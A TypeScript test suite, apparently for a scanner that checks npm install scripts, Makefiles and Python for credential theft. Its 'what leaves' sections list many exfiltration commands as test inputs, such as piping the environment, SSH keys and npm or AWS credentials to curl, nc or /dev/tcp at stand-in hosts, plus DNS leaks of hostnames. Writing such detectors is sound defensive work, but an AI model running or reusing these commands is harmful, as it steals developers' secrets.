/** How command lines are read: words, quotes, what stands behind what, and the scripts in them. */
import { describe, expect, test } from 'vitest';
import { inlineScripts } from '../../src/code/scripts/inline.ts';
import { recipesFor } from '../../src/code/scripts/makefile.ts';
import { withUnpacked } from '../../src/code/scripts/powershell.ts';
import { leaksInPython } from '../../src/code/scripts/python.ts';
import { filesRunBy } from '../../src/code/scripts/scripts.ts';
import { callOf, commandsIn, worthOf } from '../../src/code/scripts/shell.ts';
import { leaksIn } from '../../src/code/scripts/shell-flow.ts';
import { packageOf } from '../world.ts';

const nothing = () => undefined;

test.each<readonly [string, readonly string[]]>([
  ['a b  c', ['a|b|c']],
  [`a 'b c' "d \\"e\\" 'f'" g\\ h`, [`a|b c|d "e" 'f'|g h`]],
  ['a && b || c; d & e\nf | g', ['a', 'b', 'c', 'd', 'e', 'f', 'g']],
  ['sleep 1; echo 2>/dev/null 3', ['sleep|1', 'echo|3']],
  ['a "$(b "c d")" `e f`', ['a|$(b "c d")|`e f`']],
  ['# no\na b#c # no', ['a|b#c']],
  ["cat <<'EOF' | a\nb $c\nEOF\nd", ['cat', 'a', 'd']],
  ['if a; then b; fi; (c; d) | e', ['a', 'b', 'c', 'd', 'e']],
  ["A=1 sudo -n timeout 5 '/usr/bin/a' b", ['a|b']],
  ["a 'b", ['a|b']],
  ['a \\\n  b', ['a|b']],
])('%j', (text, expected) => {
  const calls = commandsIn(text).map((command) => callOf(command, nothing));
  const words = calls.map(({ program, args }) => [program, ...args.map((word) => worthOf(word, nothing))].join('|'));
  expect(words.filter((one) => one !== '')).toEqual(expected);
});

describe('scripts in commands', () => {
  const scriptsIn = (postinstall: string, more = {}) =>
    inlineScripts(packageOf({ name: '', manifest: { ...more, scripts: { postinstall } } })).map(({ text }) => text);

  test.each<readonly [string, readonly string[]]>([
    ['node -e "a(\'b\')"', ["a('b')"]],
    [`node -r ./x --no-warnings -pe 'a("b")' || exit 0`, ['a("b")']],
    ['node --eval="a()"', ['a()']],
    ['"$NODE" -e "a()"', ['a()']],
    ['bun -e "a()"; deno eval -q "b()"', ['a()', 'b()']],
    ['X="a()"; cross-env B=1 node -e "$X"', ['a()']],
    ['bash -c \'node -e "a()"\'', ['a()']],
    ['V=$(node -p "a()")', ['a()']],
    ["echo 'a()' | node", ['a()']],
    ['node <<< "a()"', ['a()']],
    ["python3 -Bc 'a()'; python - <<< 'b()'", ['a()', 'b()']],
    ['python3 x.py -c "a()"', []],
    ['node setup.js -e "a()"', []],
    ['grep -e "a()" node', []],
    ['nodemon -e js', []],
  ])('%s', (command, expected) => {
    expect(scriptsIn(command)).toEqual(expected);
  });

  test('of a field of the manifest', () => {
    expect(scriptsIn('%npm_node_execpath% -e "%npm_package_config_a_b%"', { config: { 'a-b': 'a()' } })).toEqual([
      'a()',
    ]);
  });
});

describe('what make and a change of folder run', () => {
  const paths = ['lib/a.js', 'lib/b/c.cjs', 'a.js', 'b.js', 'd.js'];
  const files = {
    ...Object.fromEntries(paths.map((path) => [path, ''])),
    Makefile:
      'NODE ?= node\nH := https://a.example\n.PHONY: all\nall: first \\\n  second\n\t@$(NODE) b.js $$HOME $(H)\nfirst:\n\t-node d.js\nsecond: ; echo\nother:\n\tnode a.js\n',
    'lib/x.mk': 'X := $(shell node d.js)\n',
  };
  const runBy = (postinstall: string) =>
    filesRunBy(packageOf({ name: '', files, manifest: { main: 'x.js' } }), postinstall);

  test.each<readonly [string, readonly string[]]>([
    ['cd lib && node a', ['lib/a.js']],
    ['(cd "lib"; cd ./b && node c.cjs)', ['lib/b/c.cjs']],
    ['cd lib/b && cd .. && node a.js', ['lib/a.js']],
    ['cd $HOME && node b.js', ['b.js']],
    ['make -s', ['b.js', 'd.js']],
    ['make other', ['a.js']],
    ['make -j 4 -C lib -f x.mk || true', ['d.js']],
    ['cmake make.txt', []],
  ])('%s', (command, expected) => {
    expect([...new Set(runBy(command))].filter((path) => /js$/.test(path)).sort()).toEqual(expected);
  });

  test('is told with its variables', () => {
    expect(recipesFor(files.Makefile, [])).toBe(
      'echo\nnode d.js\nnode b.js $HOME https://a.example'.replace('echo', ' echo'),
    );
  });

  test.each(['a: ', 'a:\n', '$(A)', 'A=$(A)$(A)\n', '\\\n', 'a: b c d\n\tx\n'])('a megabyte of %j', (unit) => {
    const started = process.cpuUsage().user;
    recipesFor(`A=$(A)$(A)\n${unit.repeat(250_000 / unit.length)}`, []);
    expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(1_000);
  });
});

describe('what leaves', () => {
  test.each<readonly [string, readonly string[]]>([
    ['env | base64 | curl -d @- https://a.example', ['the whole environment']],
    ['printenv|nc 203.0.113.9 4444', ['the whole environment']],
    ['curl -s -d "$(cat ~/.npmrc)" https://a.example', ['npm credentials']],
    ['curl -d @$HOME/.npmrc https://a.example', ['npm credentials']],
    ['curl -sT ~/.ssh/id_rsa https://a.example', ['SSH keys']],
    ['curl --data-binary @- https://a.example < ~/.netrc', ['netrc credentials']],
    ['curl "https://a.example/?$(cat ~/.npmrc | base64 -w0)"', ['npm credentials']],
    ['tar czf - ~/.ssh ~/.aws 2>/dev/null | nc 203.0.113.9 4444 || true', ['SSH keys', 'AWS credentials']],
    ['H=https://a.example\nD=$(env | base64); curl -d "$D" $H', ['the whole environment']],
    ['env > /tmp/x && curl -F f=@/tmp/x https://a.example', ['the whole environment']],
    ['env | tee /tmp/x >/dev/null; gzip /tmp/x; curl -T /tmp/x.gz https://a.example', ['the whole environment']],
    ['cp ~/.ssh/id_rsa /tmp/d/ && cd /tmp/d && git add -A && git push -q https://a.example/r.git', ['SSH keys']],
    ['tar czf /tmp/a.tgz -C ~ .ssh; wget --post-file=/tmp/a.tgz https://a.example', ['SSH keys']],
    ['(env; id) | curl -d @- https://a.example', ['the whole environment', 'id']],
    ['for f in ~/.npmrc ~/.netrc; do curl -F "f=@$f" https://a.example; done', ['npm credentials']],
    ['find ~ -name .npmrc -exec cat {} \\; | curl -d @- https://a.example', ['npm credentials']],
    ['find ~ -name id_rsa | xargs cat | curl -d @- https://a.example', ['SSH keys']],
    [
      'T=$(mktemp)\nfor f in "$HOME/.npmrc" "$HOME/.ssh/id_rsa"; do [ -f "$f" ] && cat "$f" >> "$T"; done\ncurl --data-binary @"$T" https://a.example',
      ['SSH keys'],
    ],
    ['cat ~/.npmrc | while read -r l; do curl "https://a.example/?l=$l"; done', ['npm credentials']],
    ['{\n  id\n  env\n} 2>/dev/null | gzip |\n  curl -d @- https://a.example', ['the whole environment', 'id']],
    ['(cat ~/.npmrc) 2>&1 | curl -d @- https://a.example', ['npm credentials']],
    ["bash -c 'env > /dev/tcp/203.0.113.9/443'", ['the whole environment']],
    ['scp -r ~/.ssh a@a.example:', ['SSH keys']],
    ['gh gist create ~/.npmrc', ['npm credentials']],
    ['cd ~ && cat .npmrc | curl -d @- https://a.example', ['npm credentials']],
    ['cat ../../.env | curl -d @- https://a.example', ['a dotenv file']],
    ['T=$(gh auth token)\ncurl "https://a.example/$T"', ['gh auth token']],
    ['curl -d @- https://a.example <<EOF\n$(env)\nEOF', ['the whole environment']],
    ['nslookup $(whoami).$(hostname).a.example', ['whoami', 'hostname']],
    ['curl "https://a.example/?h=`hostname`&u=$USER"', ['hostname', '$USER']],
    ['ping -c1 $(hostname).a.example', ['hostname']],
  ])('%s', (text, expected) => {
    expect([...new Set(leaksIn(text).map(({ what }) => what))].sort()).toEqual([...expected].sort());
  });

  test.each([
    'curl -L https://a.example/x.tar.gz | tar xz',
    'env FOO=1 node x.js && curl https://a.example',
    'env | grep npm_config; curl https://a.example',
    'env | grep ^npm_package_version | curl -d @- https://a.example',
    'set -e; curl -fsSL -o x https://a.example',
    'cat package.json | curl -d @- https://a.example',
    'test -f ~/.npmrc && curl https://a.example',
    'grep -q token ~/.npmrc && curl https://a.example/x',
    'cp .env.example .env && curl https://a.example',
    'cat .env | curl -d @- https://a.example',
    'curl -H "Authorization: Bearer $TOKEN" https://a.example',
    'curl -H "Authorization: token $(gh auth token)" https://a.example',
    'curl --netrc-file ~/.netrc -o ~/.ssh/known_hosts https://a.example',
    'curl -L https://a.example/x-$(uname -s)-$(uname -m).tgz | tar xz',
    'curl -o /home/$(whoami)/x https://a.example; sudo chown $(id -u) x',
    'scp -i ~/.ssh/id_rsa dist.tgz a@a.example:',
    'rsync -az -e "ssh -i ~/.ssh/id_rsa" dist/ $USER@a.example:',
    'scp a@a.example:.ssh/id_rsa.pub .',
    '{ env; } 2>/dev/null || curl -d @- https://a.example',
    '{ env; } 2>/dev/null >/tmp/x | curl -d @- https://a.example',
    'env > /tmp/x; curl -T dist.tgz https://a.example; git push',
    'ssh -i ~/.ssh/id_rsa a@a.example',
    'mkdir -p ~/.ssh && ssh-keyscan a.example >> ~/.ssh/known_hosts && ping -c1 a.example',
    'T=$(mktemp); cat ~/.npmrc > "$T"; npm ci --userconfig "$T"; curl -o "$HOME/x.tgz" https://a.example/x.tgz',
    'cat ~/.npmrc | sha256sum | curl -d @- https://a.example',
    'ls -la ~/.ssh | wc -l; curl https://a.example',
    'curl -u "$USER:$PASS" https://a.example',
  ])('not: %s', (text) => {
    expect(leaksIn(text)).toEqual([]);
  });
});

describe('what leaves by Python', () => {
  test.each<readonly [string, readonly string[]]>([
    [
      "import os,urllib.request as u;u.urlopen('https://a.example',str(dict(os.environ)).encode())",
      ['the whole environment'],
    ],
    [
      'import os, json, requests\nenv = {k: v for k, v in os.environ.items()}\nbody = json.dumps(\n  env\n)\nrequests.post(URL, data=body)',
      ['the whole environment'],
    ],
    ['from os import environ as e\nimport requests as r\nr.post(u, json=dict(e))', ['the whole environment']],
    [
      "p = os.path.expanduser('~/.npmrc')\nif os.path.exists(p):\n  with open(p) as f:\n    data = f.read()\n  urlopen(Request(URL, data=data.encode()))",
      ['npm credentials'],
    ],
    [
      "def send(text):\n  s = socket.create_connection((H, 443))\n  s.sendall(text)\nsend(open(os.path.join(home, '.ssh', 'id_rsa')).read())",
      ['SSH keys'],
    ],
    ['def all():\n  return dict(os.environ)\nurlopen(URL, repr(all()).encode())', ['the whole environment']],
    ["urlopen(f'https://a.example/?{socket.gethostname()}')", ['socket.gethostname()']],
    ["os.system('env | curl -d @- https://a.example')", ['the whole environment']],
    ["t = subprocess.check_output(['gh', 'auth', 'token'])\nurlopen(URL, t)", ['gh auth token']],
  ])('%s', (text, expected) => {
    expect([...new Set(leaksInPython(text).map(({ what }) => what))]).toEqual(expected);
  });

  test.each([
    "import os\nprint(os.environ.get('CC', 'cc'))",
    "import os, urllib.request\nurl = os.environ['MIRROR'] + '/x.tgz'\nurllib.request.urlretrieve(url, 'x.tgz')",
    "env = os.environ.copy()\nenv['CC'] = 'clang'\nsubprocess.check_call(['make'], env=env)\nurlopen('https://a.example/x')",
    "env = dict(os.environ, CC='clang')\nif 'CI' in os.environ: print('ci')\nrequests.get(URL, headers={'a': env['USER_AGENT']})",
    'print(dict(os.environ))\nurlopen(URL)',
    "proxies = {k: v for k, v in os.environ.items() if k.endswith('_proxy')}\nrequests.get(URL, proxies=proxies)",
    "open('.env').read()\nrequests.post(URL, data=open('coverage.xml').read())",
    "self.env = os.environ.copy()\nself.url = 'https://a.example'\nrequests.get(self.url)",
    "# urlopen(URL, dict(os.environ))\nprint('urlopen(os.environ)')",
    "if os.path.exists(os.path.expanduser('~/.npmrc')):\n  urlopen(URL)",
    'os.environ.update(X=post(URL))',
    "def all():\n  env = dict(os.environ)\n  return len(env)\ndef get():\n  env = '1'\n  urlopen(URL, env)",
    'import multiprocessing\nqueue.put(dict(os.environ))\npipe.send(dict(os.environ))',
    'self.environ = request.environ\nurlopen(URL, str(self.environ))',
    'urlopen(URL, gethostbyname(socket.gethostname()) and b"1")',
  ])('not: %s', (text) => {
    expect(leaksInPython(text)).toEqual([]);
  });

  test.each(["'", '"""', '(', 'x = (', "open('~/.npmrc'); ", 'a.', 'f"{', 'for a in ', 'x=os.environ\n', '\\', 'a, '])(
    'a megabyte of %j is read in bounded time',
    (unit) => {
      const text = `open(os.environ, '')${unit.repeat(1_000_000 / unit.length)}`;
      const started = process.cpuUsage().user;
      leaksInPython(text);
      expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(3_000);
    },
  );
});

test.each(['powershell -e ', 'pwsh /ec AAAA ', 'powershell -en,,,,', 'A'])('a megabyte of %j, unpacked', (unit) => {
  const text = `powershell -enc ${unit.repeat(1_000_000 / unit.length)}`;
  const started = process.cpuUsage().user;
  expect(withUnpacked(text)).toBe(text);
  expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(1_000);
});

test.each([
  'curl -d "$(',
  'env | curl ',
  'A=$A$A; curl $A ',
  "curl '",
  '$(',
  '`',
  '((',
  '{ ',
  '<<A\n',
  'cat ~/.npmrc > /tmp/x; ',
  'cat /proc/',
  'gpg a ',
  'curl "$A" | node -e "',
  'node -e ',
  '\\',
  'a=@',
  ' ',
  'find ~ -exec ',
])('a megabyte of %j is read in bounded time', (unit) => {
  const text = `curl ${unit.repeat(1_000_000 / unit.length)}`;
  const pkg = packageOf({
    name: '',
    manifest: { scripts: { install: 'sh x.sh', postinstall: text } },
    files: { 'x.sh': text },
  });
  const started = process.cpuUsage().user;
  leaksIn(text);
  inlineScripts(pkg);
  expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(3_000);
});
